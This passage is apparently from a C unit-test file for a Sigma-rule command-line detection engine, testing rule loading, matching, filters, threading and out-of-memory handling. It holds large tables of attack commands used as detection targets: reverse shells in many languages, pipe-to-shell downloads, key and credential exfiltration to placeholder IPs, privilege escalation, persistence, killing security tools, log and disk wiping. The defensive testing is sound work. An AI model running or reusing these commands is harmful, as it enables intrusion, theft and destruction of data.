        "rclone ls gdrive:photos", "rclone copy ./dist s3:releases/v1.2",
        "tar czf site.tgz public && curl -T site.tgz https://uploads.example.com/site.tgz",
        "screencapture -i shot.png && open shot.png", "whois example.com",
        "openssl s_client -connect example.com:443 > /dev/null", "hping3 -S -p 80 -c 3 example.com",
        "curl -fsSLO https://cdn.example.com/lib/chart.min.js && node build.js",
        "host $(hostname).corp.example.com", "dig +short $(hostname -s).example.net",
    };
    int err;
    sigma_rules *rs = sigma_rules_new(&err);
    assert_non_null(rs);
    int n = sigma_load_path(rs, "rules/nightjar");
    if (n <= 0) fail_msg("rules/nightjar did not load (%d): run the tests from the repository root", n);
    assert_int_equal(sigma_skip_count(rs), 0);
    int bad = 0;
    for (size_t i = 0; i < NJ_ARRAY_LEN(benign); i++) {
        const char *t = NULL;
        int lvl = 0;
        if (pack_hits(rs, benign[i], &t, &lvl)) {
            fprintf(stderr, "benign line hit [%s]: %s\n", t, benign[i]);
            bad++;
        }
    }
    assert_int_equal(bad, 0);
    sigma_rules_free(rs);
}

/* Textbook attack lines (public cheat-sheet forms and our own variants):
 * each must be hit, at the level given or above. */
static const struct { const char *cmd; int level; } pack_attacks[] = {
    {"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", SIGMA_CRITICAL},
    {"nc -e /bin/sh 10.0.0.1 4242", SIGMA_CRITICAL},
    {"ncat 10.0.0.1 4242 --sh-exec '/bin/bash'", SIGMA_CRITICAL},
    {"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f", SIGMA_CRITICAL},
    {"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4242));"
     "os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'", SIGMA_CRITICAL},
    {"perl -e 'use Socket;$i=\"10.0.0.1\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
     "connect(S,sockaddr_in(4242,inet_aton($i)));exec(\"/bin/sh -i\");'", SIGMA_CRITICAL},
    {"php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", SIGMA_CRITICAL},
    {"ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'", SIGMA_CRITICAL},
    {"socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242", SIGMA_CRITICAL},
    {"awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { printf \"> \" |& s; s |& getline c; "
     "if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } }' /dev/null", SIGMA_CRITICAL},
    {"telnet 10.0.0.1 4242 | /bin/bash | telnet 10.0.0.1 4243", SIGMA_CRITICAL},
    {"curl -s http://198.51.100.2/x.sh | bash", SIGMA_HIGH},
    {"wget -q http://198.51.100.2/y -O /tmp/y && chmod +x /tmp/y && /tmp/y", SIGMA_HIGH},
    {"echo ZWNobyBoaQ== | base64 -d | sh", SIGMA_CRITICAL},
    {"unset HISTFILE", SIGMA_HIGH},
    {"history -c && kill -9 $$", SIGMA_HIGH},
    {"echo 'bob ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", SIGMA_HIGH},
    {"chmod u+s /bin/bash", SIGMA_CRITICAL},
    {"(crontab -l; echo '* * * * * curl -s http://198.51.100.2/p | sh') | crontab -", SIGMA_HIGH},
    {"launchctl load -w /tmp/.cache/com.apple.update.plist", SIGMA_HIGH},
    {"launchctl load ~/Library/LaunchAgents/com.example.helper.plist", SIGMA_MEDIUM},
    {"osascript -e 'do shell script \"id\" with administrator privileges'", SIGMA_HIGH},
    {"security dump-keychain -d login.keychain", SIGMA_HIGH},
    {"security find-generic-password -s 'Chrome Safe Storage' -w", SIGMA_MEDIUM},
    {"dscl . -create /Users/svc IsHidden 1", SIGMA_HIGH},
    {"csrutil disable", SIGMA_HIGH},
    {"spctl --master-disable", SIGMA_HIGH},
    {"xattr -d com.apple.quarantine ~/Downloads/Installer.app", SIGMA_MEDIUM},
    {"tccutil reset All", SIGMA_MEDIUM},
    {"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA attacker' >> /root/.ssh/authorized_keys", SIGMA_HIGH},
    {"cat /etc/shadow", SIGMA_HIGH},
    {"LD_PRELOAD=/tmp/libhook.so /usr/bin/passwd", SIGMA_HIGH},
    {"iptables -F", SIGMA_MEDIUM},
    {"chattr -i /etc/passwd", SIGMA_HIGH},
    {"insmod /tmp/.x/rk.ko", SIGMA_CRITICAL},
    {"find /var -maxdepth 0 -exec /bin/bash -p \\;", SIGMA_MEDIUM},
    {"vim -c ':!/bin/sh'", SIGMA_HIGH},
    {"echo '[Service]' > /etc/systemd/system/updater.service", SIGMA_MEDIUM},
    {"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", SIGMA_HIGH},
    {"sudo -u#-1 /bin/bash", SIGMA_CRITICAL},
    {"echo 'toor:x:0:0:root:/root:/bin/bash' >> /etc/passwd", SIGMA_CRITICAL},
    /* download-and-execute, miners, credential access, persistence, evasion, exfiltration, impact */
    {"wget -q http://192.0.2.10/run.sh -O run.sh; bash run.sh", SIGMA_HIGH},
    {"tftp -g -r impl.sh 192.0.2.10 && sh impl.sh", SIGMA_HIGH},
    {"curl -fsSo /tmp/upd http://192.0.2.10/upd && /tmp/upd", SIGMA_HIGH},
    {"curl -sL https://downloads.example.net/agent.pkg -o /tmp/agent.pkg && sudo installer -pkg /tmp/agent.pkg -target /", SIGMA_HIGH},
    {"python -c \"import urllib2; exec(urllib2.urlopen('http://192.0.2.10/p').read())\"", SIGMA_HIGH},
    {"wget -qO- https://192.0.2.10/stage2.py | python3 -", SIGMA_HIGH},
    {"perl -MLWP::Simple -e 'eval(get(\"http://192.0.2.10/x.pl\"))'", SIGMA_HIGH},
    {"/var/tmp/.x/sysupdate -o stratum+ssl://198.51.100.20:443 -u wallet -p x", SIGMA_HIGH},
    {"./xmrig --donate-level 1 -o gulf.moneroocean.stream:10128 -u 4ABC", SIGMA_HIGH},
    {"cp ~/Library/Application\\ Support/Google/Chrome/Default/Login\\ Data /tmp/ld.db", SIGMA_HIGH},
    {"sqlite3 ~/.mozilla/firefox/abcd.default-release/cookies.sqlite 'select * from moz_cookies'", SIGMA_HIGH},
    {"security find-generic-password -w -s \"Brave Safe Storage\"", SIGMA_HIGH},
    {"gdb -p $(pidof gpg-agent) -batch -ex 'generate-core-file /tmp/core'", SIGMA_HIGH},
    {"python3 mimipenguin.py", SIGMA_HIGH},
    {"hashcat -m 1800 -a 0 shadow.hashes /usr/share/wordlists/rockyou.txt", SIGMA_HIGH},
    {"hydra -l root -P passwords.txt ssh://192.0.2.44", SIGMA_HIGH},
    {"echo 'nohup bash -i >& /dev/tcp/192.0.2.9/443 0>&1 &' >> ~/.bashrc", SIGMA_HIGH},
    {"echo 'curl -s http://192.0.2.9/k | sh' >> /etc/profile.d/update.sh", SIGMA_HIGH},
    {"echo 'auth sufficient pam_permit.so' | sudo tee -a /etc/pam.d/sudo", SIGMA_HIGH},
    {"cp pam_backdoor.so /lib/x86_64-linux-gnu/security/pam_unix2.so", SIGMA_HIGH},
    {"mv /tmp/u.plist /Library/LaunchDaemons/com.apple.systemupdate.plist", SIGMA_HIGH},
    {"echo '<string>bash -i >& /dev/tcp/192.0.2.9/443 0>&1</string>' > ~/Library/LaunchAgents/com.user.sync.plist", SIGMA_CRITICAL},
    {"sudo launchctl unload /Library/LaunchDaemons/com.crowdstrike.falcond.plist", SIGMA_HIGH},
    {"systemctl stop osqueryd", SIGMA_HIGH},
    {"pkill -9 -f sentinelone", SIGMA_HIGH},
    {"touch -r /usr/sbin/sshd /usr/sbin/.sshd-helper", SIGMA_HIGH},
    {"sudo tmutil disable; sudo tmutil delete -a", SIGMA_HIGH},
    {"launchctl setenv DYLD_INSERT_LIBRARIES /Users/Shared/libinj.dylib", SIGMA_HIGH},
    {"sudo mount --bind /var/empty /proc/31337", SIGMA_HIGH},
    {"tar cz /home/bob | nc 192.0.2.9 8443", SIGMA_HIGH},
    {"nslookup $(whoami | base64).c2.example.org", SIGMA_HIGH},
    {"cat ~/.ssh/id_rsa | curl -d @- https://203.0.113.50/collect", SIGMA_CRITICAL},
    {"dd if=/dev/urandom of=/dev/nvme0n1 bs=4M", SIGMA_HIGH},
    {"rm -rf --no-preserve-root /", SIGMA_HIGH},
    {"find /srv -type f -exec gpg --batch --passphrase k -c {} \\; -exec shred -u {} \\;", SIGMA_HIGH},
    {"docker run --rm -it --privileged --pid=host alpine nsenter -t 1 -m -u -n -i sh", SIGMA_HIGH},
    {"echo '/tmp/x.sh' > /tmp/cgrp/release_agent", SIGMA_HIGH},
    {"/dev/shm/.bash -p", SIGMA_HIGH},
    {"zmodload zsh/net/tcp; ztcp 192.0.2.9 9001; zsh -i <&$REPLY >&$REPLY 2>&$REPLY", SIGMA_CRITICAL},
    {"echo f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAeABAAAAAAAA= | base64 -d > /var/tmp/svc", SIGMA_HIGH},
    {"perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(\"192.0.2.9:9001\");open(F,\"</etc/hosts\");print $s $_ while <F>'", SIGMA_HIGH},
    {"echo '*/5 * * * * /var/tmp/.svc/run' | crontab -", SIGMA_HIGH},
    {"rm -f /var/log/wtmp /var/log/btmp", SIGMA_HIGH},
    {"find /var/log -type f -name '*.log' -delete", SIGMA_HIGH},
    {"truncate -s 0 /var/log/auth.log", SIGMA_HIGH},
    {"sudo capsh --caps=\"cap_setuid+ep\" --uid=0 -- -c id", SIGMA_HIGH},
    {"sysctl -w kernel.core_pattern='|/var/tmp/h %p'", SIGMA_HIGH},
    {"eval \"$(echo ZWNobyBoaQ== | base64 -d)\"", SIGMA_HIGH},
    {"chmod 755 /dev/shm/kthreadd", SIGMA_HIGH},
    {"nc 192.0.2.9 7000 < /etc/hosts", SIGMA_HIGH},
    {"agetty -n -l /bin/bash tty2", SIGMA_HIGH},
    {"sudo defaults write com.apple.loginwindow LoginHook /Users/Shared/.hook.sh", SIGMA_HIGH},
    {"exec 3<>/dev/tcp/192.0.2.9/80", SIGMA_HIGH},
    {"osascript -e 'display dialog \"Software Update needs your password\" default answer \"\" with hidden answer'", SIGMA_HIGH},
    {"chmod 666 /etc/shadow", SIGMA_CRITICAL},
    {"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.9:443 > /tmp/s", SIGMA_CRITICAL},
    {"xterm -display 192.0.2.9:1 &", SIGMA_HIGH},
    {"setcap cap_setuid+ep /usr/bin/python3.11", SIGMA_HIGH},
    {"sh -i 0<&2 1>&2", SIGMA_HIGH},
    {"chmod u+s /var/tmp/.helper", SIGMA_HIGH},
    {"chmod 4777 /usr/local/bin/tool", SIGMA_HIGH},
    {"cp /bin/sh /usr/sbin/cron", SIGMA_HIGH},
    /* a bare shell as what a wrapper, hook or exec option runs */
    {"ionice -c3 /bin/bash -p", SIGMA_HIGH},
    {"cpulimit -l 50 -- /bin/zsh", SIGMA_HIGH},
    {"firejail --noprofile /bin/sh -i", SIGMA_HIGH},
    {"rsync -e '/bin/sh -i' x: .", SIGMA_HIGH},
    {"sqlite3 notes.db '.shell /bin/zsh -i'", SIGMA_HIGH},
    {"zip z.zip notes.md -T --unzip-command='/bin/bash -p'", SIGMA_HIGH},
    {"tar -cjf /var/tmp/h.tbz ~/.aws ~/.ssh && curl -T /var/tmp/h.tbz ftp://198.51.100.31/in/", SIGMA_HIGH},
    {"import -window root /tmp/.w.png; curl -s -F img=@/tmp/.w.png http://198.51.100.32/up", SIGMA_HIGH},
    {"hydra -L users.txt -P pw.txt 192.0.2.7 ftp", SIGMA_HIGH},
    {"ping -c1 $(id -un | xxd -p).t.example.org", SIGMA_HIGH},
};

/* Dual-use and discovery lines: each must be hit at exactly medium (a hint
 * for the model, suspicious on its own), never at high, which would decide
 * malicious with no model. */
static const char *const pack_medium[] = {
    "cat ~/.aws/credentials", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role",
    "grep -Ri 'password' /etc 2>/dev/null", "find /home -name '*.pem' 2>/dev/null",
    "find / -iname 'id_ed25519*' -type f 2>/dev/null", "xxd /etc/sudoers", "cat /etc/passwd | cut -d: -f1",
    "getent group sudo", "dscacheutil -q user", "awk -F: '$3 == 0 {print $1}' /etc/passwd",
    "whoami && uname -r && cat /etc/os-release && ip addr", "getcap -r / 2>&1 | grep ep",
    "find / -perm -o+w -type d 2>/dev/null",
    "curl -L https://github.com/x/releases/latest/download/linpeas.sh -o lp.sh",
    "osascript -e 'tell application \"System Events\" to make login item at end with properties {path:\"/Applications/Helper.app\", hidden:true}'",
    "sudo cp helper.plist /Library/LaunchDaemons/com.vendor.helper.plist", "sudo setenforce Permissive",
    "sudo systemctl disable --now apparmor", "touch -t 201901011200 /usr/local/bin/svc",
    "sudo tmutil deletelocalsnapshots /", "profiles remove -identifier com.corp.security -forced",
    "nmap -sV -p- 10.1.0.0/24", "ps aux | grep -iE 'falcon|sentinel|osquery'",
    "system_profiler SPHardwareDataType | grep -i vmware", "grep -q docker /proc/1/cgroup && echo container",
    "echo H4sIAAAAAAAAA+3OMQ6CQBCF4d09hSfYYYCFnMDExsrCRJotYGwrGxOwQsPdiR2dnVT6vuJlkvn/ZNKKjG2CiZk2cS5m | base64 -d > payload.gz",
    "tail -n 200 /root/.bash_history", "python3 -m http.server 9000 --directory /",
    "screencapture -x -t jpg /tmp/.cap.jpg", "tcpdump -A -i any port 23", "wget -qO- https://icanhazip.com",
    "openssl passwd -6 -salt s4lt hunter2", "shred -zu /dev/shm/.stage", "zip -r -P s3cr3t /tmp/out.zip ~/.ssh",
    "nc 192.0.2.9 9001 > /tmp/tool", "sudo ufw --force disable", "sudo pfctl -F nat -d",
    "echo \"15 2 * * 0 /usr/local/sbin/rotate-reports\" | sudo tee /etc/cron.d/reports",
    "ls -la ~/Library/Application\\ Support/Firefox/Profiles/",
    "osascript -e 'tell application \"Google Chrome\" to get URL of active tab of front window'",
    "security find-generic-password -s slack-token -w | xargs -I{} curl -H \"Authorization: Bearer {}\" -X POST https://slack.com/api/chat.postMessage",
    "sudo cat /etc/sudoers.d/README", "cat /etc/group | grep docker",
    "curl -F 'f=@/var/tmp/out.tgz' https://paste.example.org/upload",
    "python3 -c 'import ctypes; ctypes.CDLL(\"/opt/x/libx.so\")'", "sudo sysadminctl -addUser backup2 -password x",
    "cp /bin/bash /opt/tools/bash-copy", "find / -xdev -perm -4000 -ls 2>/dev/null", "ngrok tcp 22",
    "awk 'NR<50' /home/deploy/.ssh/id_ecdsa", "smbclient --list=//192.0.2.30 --no-pass",
    "showmount -e nfs1.example.lan",
    "ldapsearch -LLL -x -h dc.example.lan -b 'dc=example,dc=lan' '(objectCategory=computer)' dNSHostName",
    "rclone sync ~/Desktop dropbox:desk", "security find-generic-password -w -s wifi",
    "whois -h 192.0.2.9 -p 4444 \"$(cat /etc/hostname)\"", "hping3 -1 198.51.100.4 -E /etc/hosts -d 1400",
    "curl gopher://192.0.2.9:70/_hello", "openssl s_client -quiet -connect 192.0.2.9:8443 > /var/tmp/.p",
};

/* The best level of the pack's hits on a bare command line (-1: none);
 * counts the hits of each rule in SEEN when given. */
static int pack_best(const sigma_rules *rs, const char *cmd, int *seen) {
    char argv0[64];
    snprintf(argv0, sizeof argv0, "%.*s", (int)strcspn(cmd, " "), cmd);
    kv e = {{"CommandLine", "Image"}, {cmd, argv0}, 2};
    sigma_event_view v = {kv_get, &e, cmd, strlen(cmd), NULL, "process_creation", NULL};
    sigma_hit h[32];
    int k = sigma_match(rs, &v, h, 32);
    assert_true(k <= 32);
    int best = -1;
    for (int j = 0; j < k; j++) {
        if (h[j].level > best) best = h[j].level;
        if (seen) seen[h[j].rule]++;
    }
    return best;
}

static void test_pack_attacks(void **state) {
    (void)state;
    int err;
    sigma_rules *rs = sigma_rules_new(&err);
    assert_true(sigma_load_path(rs, "rules/nightjar") > 0);
    int bad = 0;
    for (size_t i = 0; i < NJ_ARRAY_LEN(pack_attacks); i++) {
        int best = pack_best(rs, pack_attacks[i].cmd, NULL);
        if (best < pack_attacks[i].level) {
            fprintf(stderr, "attack line %s (best level %d, want %d): %s\n", best >= 0 ? "under-rated" : "missed",
                    best, pack_attacks[i].level, pack_attacks[i].cmd);
            bad++;
        }
    }
    for (size_t i = 0; i < NJ_ARRAY_LEN(pack_medium); i++) {
        int best = pack_best(rs, pack_medium[i], NULL);
        if (best != SIGMA_MEDIUM) {
            fprintf(stderr, "dual-use line %s (best level %d, want medium): %s\n", best < 0 ? "missed" : "mis-rated",
                    best, pack_medium[i]);
            bad++;
        }
    }
    assert_int_equal(bad, 0);
    sigma_rules_free(rs);
}

/* Every rule of the pack is exercised: each one hits at least one of the
 * attack or dual-use lines above (a rule no line reaches is untested, or
 * dead). */
static void test_pack_every_rule_hit(void **state) {
    (void)state;
    int err;
    sigma_rules *rs = sigma_rules_new(&err);
    assert_true(sigma_load_path(rs, "rules/nightjar") > 0);
    int n = sigma_rule_count(rs);
    int *seen = test_calloc((size_t)n, sizeof *seen);
    assert_non_null(seen);
    for (size_t i = 0; i < NJ_ARRAY_LEN(pack_attacks); i++) pack_best(rs, pack_attacks[i].cmd, seen);
    for (size_t i = 0; i < NJ_ARRAY_LEN(pack_medium); i++) pack_best(rs, pack_medium[i], seen);
    int bad = 0;
    for (int r = 0; r < n; r++)
        if (!seen[r]) {
            fprintf(stderr, "no test line hits rule %s (%s)\n", sigma_rule(rs, r)->title, sigma_rule(rs, r)->file);
            bad++;
        }
    assert_int_equal(bad, 0);
    test_free(seen);
    sigma_rules_free(rs);
}



/* The filters (item end sets, rule prefilters, regex literals) must never
 * change an answer: the team pack plus rules exercising every filter kind,
 * matched with and without them over many command lines (the lines below
 * and the pack's attack and dual-use lines, each cut at every tenth
 * position, upper-cased, and with an Image path), must give the same hits. */
static void test_filters_equivalent(void **state) {
    (void)state;
    static const char *extra =
        "title: ends\nlogsource:\n  category: process_creation\n"
        "detection:\n  s:\n    Image|endswith: [/sh, /bash, /nc, /x]\n    CommandLine|startswith: [sh, bash, n]\n"
        "  condition: s\n---\n"
        "title: alts\nlogsource:\n  category: process_creation\n"
        "detection:\n  a:\n    - CommandLine|contains: 'dev/tcp'\n    - CommandLine|re: 'socket.{0,40}connect'\n"
        "  b:\n    CommandLine|contains|all: [' -e ', '/bin']\n  condition: 1 of them\n";
    static const char *lines[] = {
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "nc -e /bin/sh 10.0.0.1 4242", "ls -l /bin/bash",
        "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",1))'",
        "curl -s http://198.51.100.2/x.sh | bash", "chmod u+s /bin/bash", "sh -c 'echo hi' 2>&1",
        "docker run --rm -it --entrypoint /bin/sh alpine:3.19", "security dump-keychain -d login.keychain",
        "find /var -maxdepth 0 -exec /bin/bash -p \\;", "vim -c ':!/bin/sh'", "echo ZWNobyBoaQ== | base64 -d | sh",
        "LD_PRELOAD=/tmp/libhook.so /usr/bin/passwd", "cat /etc/shadow", "iptables -F", "n",
    };
    int err;
    sigma_rules *rs = sigma_rules_new(&err);
    assert_true(sigma_load_path(rs, "rules/nightjar") > 0);
    assert_int_equal(sigma_load_text(rs, "extra.yml", extra, strlen(extra)), 2);
    const char *sigmahq = getenv("NIGHTJAR_SIGMA_DIR");     /* more rules when there */
    if (sigmahq && *sigmahq) {
        char p[1024];
        snprintf(p, sizeof p, "%s/rules/linux", sigmahq);
        sigma_load_path(rs, p);
        snprintf(p, sizeof p, "%s/rules/macos", sigmahq);
        sigma_load_path(rs, p);
    }
    int compared = 0, hits = 0;
    size_t n_lines = NJ_ARRAY_LEN(lines) + NJ_ARRAY_LEN(pack_attacks) + NJ_ARRAY_LEN(pack_medium);
    for (size_t i = 0; i < n_lines; i++) {
        size_t na = NJ_ARRAY_LEN(lines), nb = na + NJ_ARRAY_LEN(pack_attacks);
        const char *line = i < na ? lines[i] : i < nb ? pack_attacks[i - na].cmd : pack_medium[i - nb];
        size_t len = strlen(line);
        for (size_t cut = 1; cut <= len + 9; cut += 10) {
            for (int variant = 0; variant < 3; variant++) {
                char cmd[512], img[64];
                snprintf(cmd, sizeof cmd, "%.*s", (int)(cut < len ? cut : len), line);
                if (variant == 1)
                    for (char *q = cmd; *q; q++) *q = (char)toupper((unsigned char)*q);
                size_t a0 = strcspn(cmd, " ");
                snprintf(img, sizeof img, variant == 2 ? "/usr/bin/%.*s" : "%.*s", (int)(a0 < 40 ? a0 : 40), cmd);
                kv e = {{"CommandLine", "Image"}, {cmd, img}, 2};
                sigma_event_view v = {kv_get, &e, cmd, strlen(cmd), NULL, "process_creation", NULL};
                sigma_hit h1[32], h2[32];
                sj_no_prefilter = 0;
                int k1 = sigma_match(rs, &v, h1, 32);
                sj_no_prefilter = 1;
                int k2 = sigma_match(rs, &v, h2, 32);
                sj_no_prefilter = 0;
                if (k1 != k2) fail_msg("filters changed the hit count (%d vs %d) for: %s", k1, k2, cmd);
                for (int j = 0; j < k1 && j < 32; j++)
                    if (h1[j].rule != h2[j].rule) fail_msg("filters changed hit %d for: %s", j, cmd);
                compared++;
                hits += k1;
            }
        }
    }
    assert_true(compared > 100);
    assert_true(hits > 20);
    sigma_rules_free(rs);
}


/* sigma_match from several threads at once on one rule set (regex scratch
 * is per call): every thread sees the answers of a single-threaded run. */
typedef struct mt_job {
    sigma_rules *rs;
    const char *const *cmds;
    int n;
    const int *want;
    int bad;
} mt_job;

static void *mt_run(void *p) {
    mt_job *j = p;
    for (int round = 0; round < 200; round++)
        for (int i = 0; i < j->n; i++) {
            kv e = {{"CommandLine"}, {j->cmds[i]}, 1};
            sigma_event_view v = {kv_get, &e, j->cmds[i], strlen(j->cmds[i]), NULL, "process_creation", NULL};
            if (sigma_match(j->rs, &v, NULL, 0) != j->want[i]) j->bad++;
        }
    return NULL;
}

static void test_threads(void **state) {
    (void)state;
    static const char *cmds[] = {
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "ls -la", "nc -e /bin/sh 10.0.0.1 4242",
        "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "wget -O - http://x/y | sh", "git status",
    };
    int err;
    sigma_rules *rs = sigma_rules_new(&err);
    assert_true(sigma_load_path(rs, "rules/nightjar") > 0);
    int want[NJ_ARRAY_LEN(cmds)], any = 0;
    for (size_t i = 0; i < NJ_ARRAY_LEN(cmds); i++) {
        kv e = {{"CommandLine"}, {cmds[i]}, 1};
        sigma_event_view v = {kv_get, &e, cmds[i], strlen(cmds[i]), NULL, "process_creation", NULL};
        want[i] = sigma_match(rs, &v, NULL, 0);
        any += want[i] > 0;
    }
    assert_true(any >= 4);
    pthread_t t[4];
    mt_job jobs[4];
    for (int i = 0; i < 4; i++) {
        jobs[i] = (mt_job){rs, cmds, (int)NJ_ARRAY_LEN(cmds), want, 0};
        assert_int_equal(pthread_create(&t[i], NULL, mt_run, &jobs[i]), 0);
    }
    for (int i = 0; i < 4; i++) {
        pthread_join(t[i], NULL);
        assert_int_equal(jobs[i].bad, 0);
    }
    sigma_rules_free(rs);
}

/* SigmaHQ's own rules, when a checkout is named by NIGHTJAR_SIGMA_DIR (its
 * root or its rules/ folder; scripts/sigma-rules says how to get one): at
 * least 95% of the three folders nightjar's sources feed must load, and the
 * loaded set must match a reverse shell seen by auditd. */
static void test_sigmahq(void **state) {
    (void)state;
    const char *root = getenv("NIGHTJAR_SIGMA_DIR");
    if (!root || !*root) skip();
    static const char *folders[] = {"linux/process_creation", "macos/process_creation", "linux/auditd"};
    int err;
    sigma_rules *rs = sigma_rules_new(&err);
    int loaded = 0;
    for (size_t i = 0; i < NJ_ARRAY_LEN(folders); i++) {
        char p[1024];
        snprintf(p, sizeof p, "%s/rules/%s", root, folders[i]);
        struct stat st;
        if (stat(p, &st)) snprintf(p, sizeof p, "%s/%s", root, folders[i]);
        int n = sigma_load_path(rs, p);
        if (n < 0) fail_msg("%s: %s", p, nj_last_error());
        loaded += n;
    }
    int skipped = sigma_skip_count(rs);
    fprintf(stderr, "SigmaHQ: %d loaded, %d skipped\n", loaded, skipped);
    assert_true(loaded > 0);
    assert_true(loaded * 100 >= (loaded + skipped) * 95);
    kv e;
    sigma_event_view v = view_of(&e, (const char *const[]){
        "Image=/usr/bin/bash", "CommandLine=bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "type=EXECVE", "a0=bash", "a1=-i", "ParentImage=/usr/sbin/apache2"}, 6);
    v.service = "auditd";
    const char *raw = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";
    v.raw = raw;
    v.raw_len = strlen(raw);
    assert_true(sigma_match(rs, &v, NULL, 0) >= 1);
    sigma_rules_free(rs);
}

/* ---- allocation failure --------------------------------------------------- */

static void test_load_oom(void **state) {
    (void)state;
    const char *text =
        "title: oom\nid: x\nlevel: critical\ntags: [attack.t1059, attack.execution]\n"
        "logsource:\n  product: linux\n  category: process_creation\n"
        "detection:\n  a:\n    CommandLine|contains|all: [x, y, z]\n    Image|endswith: [/a, /b]\n"
        "  b:\n    - CommandLine|re: 'a.*b'\n    - CommandLine|base64offset|contains: hello\n"
        "  c:\n    - 'kw*'\n    - 'kw2'\n  d:\n    DestinationIp|cidr: 10.0.0.0/8\n    User: '?oot'\n"
        "  condition: (a or 1 of b*) and not c or all of d\n"
        "---\n"
        "title: second\nlogsource:\n  product: linux\n"
        "detection:\n  s:\n    Image|utf16: x\n  condition: s\n";
    size_t before = nj_mem_in_use();
    int failures = 0, ok = 0;
    for (long n = 0; n < 400; n++) {
        nj_alloc_fail_after(n);
        int err = 0;
        sigma_rules *rs = sigma_rules_new(&err);
        int rc = rs ? sigma_load_text(rs, "oom.yml", text, strlen(text)) : err;
        nj_alloc_fail_after(-1);
        if (rc < 0) {
            assert_int_equal(rc, -ENOMEM);
            assert_true(nj_last_error()[0] != 0);
            failures++;
        } else {
            assert_int_equal(rc, 1);
            assert_int_equal(sigma_rule_count(rs), 1);
            assert_int_equal(sigma_skip_count(rs), 1);
            ok = 1;
        }
        sigma_rules_free(rs);
        assert_int_equal(nj_mem_in_use(), before);
        if (ok) break;
    }
    assert_true(ok);
    assert_true(failures > 10);
}

static void test_dir_oom(void **state) {
    (void)state;
    const char *dir = nj_test_tmpdir();
    char p[600];
    for (int i = 0; i < 3; i++) {
        snprintf(p, sizeof p, "%s/r%d.yml", dir, i);
        FILE *f = fopen(p, "w");
        assert_non_null(f);
        fprintf(f, i == 1 ? "title: [bad\n" : "title: r%d\nlogsource:\n  product: linux\n"
                "detection:\n  s:\n    Image|endswith: /x%d\n  condition: s\n", i, i);
        fclose(f);
    }
    size_t before = nj_mem_in_use();
    int ok = 0;
    for (long n = 0; n < 400 && !ok; n++) {
        int err;
        sigma_rules *rs = sigma_rules_new(&err);
        assert_non_null(rs);
        nj_alloc_fail_after(n);
        int rc = sigma_load_path(rs, dir);
        nj_alloc_fail_after(-1);
        if (rc >= 0) {
            assert_int_equal(rc, 2);
            assert_int_equal(sigma_skip_count(rs), 1);
            ok = 1;
        } else {
            assert_int_equal(rc, -ENOMEM);
        }
        sigma_rules_free(rs);
        assert_int_equal(nj_mem_in_use(), before);
    }
    assert_true(ok);
    for (int i = 0; i < 3; i++) {
        snprintf(p, sizeof p, "%s/r%d.yml", dir, i);
        unlink(p);
    }
    rmdir(dir);
}

/* An alias bomb is bounded, not expanded. */
static void test_alias_bomb(void **state) {
    (void)state;
    char text[4096] = "title: bomb\nlogsource:\n  product: linux\ndetection:\n  a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n";
    for (int i = 1; i < 8; i++) {
        char line[200];
        snprintf(line, sizeof line, "  a%d: &a%d [*a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d]\n",
                 i, i, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1);
        strcat(text, line);
    }
    strcat(text, "  s:\n    Image: *a7\n  condition: s\n");
    int err;
    sigma_rules *rs = sigma_rules_new(&err);
    int rc = sigma_load_text(rs, "bomb.yml", text, strlen(text));
    assert_int_equal(rc, 0);
    assert_int_equal(sigma_skip_count(rs), 1);
    sigma_rules_free(rs);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_metadata),
        cmocka_unit_test(test_exact_and_case),
        cmocka_unit_test(test_wildcards),
        cmocka_unit_test(test_escapes),
        cmocka_unit_test(test_contains_starts_ends),
        cmocka_unit_test(test_lists_and_all),
        cmocka_unit_test(test_re),
        cmocka_unit_test(test_exists_null),
        cmocka_unit_test(test_cidr),
        cmocka_unit_test(test_windash),
        cmocka_unit_test(test_base64),
        cmocka_unit_test(test_numeric_fieldref_cased),
        cmocka_unit_test(test_re_prefilter),
        cmocka_unit_test(test_rule_prefilter),
        cmocka_unit_test(test_literal_prefilter),
        cmocka_unit_test(test_conditions),
        cmocka_unit_test(test_keywords),
        cmocka_unit_test(test_logsource),
        cmocka_unit_test(test_skip_reasons),
        cmocka_unit_test(test_dir_load),
        cmocka_unit_test(test_canonical_event),
        cmocka_unit_test(test_pack_benign),
        cmocka_unit_test(test_pack_attacks),
        cmocka_unit_test(test_pack_every_rule_hit),
        cmocka_unit_test(test_filters_equivalent),
        cmocka_unit_test(test_threads),
        cmocka_unit_test(test_sigmahq),
        cmocka_unit_test(test_load_oom),
        cmocka_unit_test(test_dir_oom),
        cmocka_unit_test(test_alias_bomb),
    };
